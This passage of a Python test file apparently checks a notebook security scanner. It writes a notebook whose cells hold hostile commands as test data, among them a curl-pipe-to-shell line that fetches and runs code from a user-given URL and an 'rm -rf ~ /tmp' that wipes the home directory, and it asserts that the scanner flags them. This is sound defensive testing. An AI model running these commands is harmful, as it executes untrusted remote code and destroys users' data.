        return '{"cells": [\n' + sources + '\n], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n'

    shop.write("explore.ipynb", notebook(
        "url = input()\n!curl -s $url | sh", "%%bash\nsh<payload.sh", "%%script sh\nrm -rf ~ /tmp", "%run -i helper.txt",
    ))
    shop.stage()
    code, report = check_json(shop)
    assert (code, report["level"], [item["rule"] for item in report["findings"] if item["weakness"]]) == (
        1, "L2", ["DR-W002", "DR-W002", "DR-W002", "DR-W001"],
    )
    # Honest: installing a package from a notebook is a constant command.
    shop.write("explore.ipynb", notebook("!pip install -q pandas", "import pandas"))
    shop.stage()
    code, report = check_json(shop)
    assert (code, [item["rule"] for item in report["findings"] if item["weakness"]]) == (0, [])
